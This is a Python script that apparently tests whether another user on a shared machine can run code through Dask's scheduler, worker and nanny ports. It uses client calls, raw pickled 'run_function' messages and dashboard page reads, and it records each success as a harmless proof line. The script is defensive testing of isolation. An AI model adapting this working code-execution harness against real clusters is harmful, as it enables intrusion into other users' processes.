"""What another user of a machine can try against Dask's ports: attack.py UID PROOF ADDRESS...

Code that runs with the rights of the attacked user adds a line to the file PROOF: kind of the attack, address, user.
"""

import asyncio
import contextlib
import os
import signal
import sys
import urllib.request

from distributed import Client, Security
from distributed.comm import connect
from distributed.protocol.pickle import dumps

SECONDS = 10


def write(proof, attack, address):
    """Leave a proof; this is what the attacked process runs."""
    with open(proof, "a") as file:
        file.write(f"{attack} {address} {os.getuid()}\n")


def clients(address, proof, security):
    """Use the public interface of Dask."""
    with Client(address, timeout=SECONDS, security=security, set_as_default=False) as client:
        for call in (client.run_on_scheduler, client.run):
            call(write, proof, call.__name__, address)
        client.submit(write, proof, "submit", address).result(timeout=SECONDS)


def handlers(address, proof, security):
    """Call the handlers of a scheduler, a worker and a nanny directly."""

    async def call(operation):
        comm = await connect(address, timeout=SECONDS, **security.get_connection_args("client"))
        arguments = dumps((proof, operation, address))
        await comm.write({"op": operation, "function": dumps(write), "args": arguments, "kwargs": None, "wait": True})
        await asyncio.wait_for(comm.read(), SECONDS)

    for operation in ("run_function", "run"):
        with contextlib.suppress(Exception):
            asyncio.run(call(operation))


def pages(address, proof, security):
    """Read a page of a scheduler or worker: no code runs, but nobody else needs to see it."""
    with urllib.request.urlopen("http://" + address.partition("://")[2], timeout=SECONDS):
        write(proof, "page", address)


def main(uid, proof, *addresses):
    own = Security.temporary()  # certificates, but not those of the run
    if uid != os.getuid():
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
    cases = [
        (attack, f"{scheme}://{address}", security)
        for address in addresses
        for scheme, security in (("tcp", Security()), ("tls", own))
        for attack in (clients, handlers, pages)
    ]
    for attack, address, security in cases:
        if os.fork():
            continue
        signal.alarm(2 * SECONDS)  # some never get an answer
        with contextlib.suppress(BaseException):
            attack(address, proof, security)
        os._exit(0)
    for _ in cases:
        os.wait()


if __name__ == "__main__":
    main(int(sys.argv[1]), *sys.argv[2:])
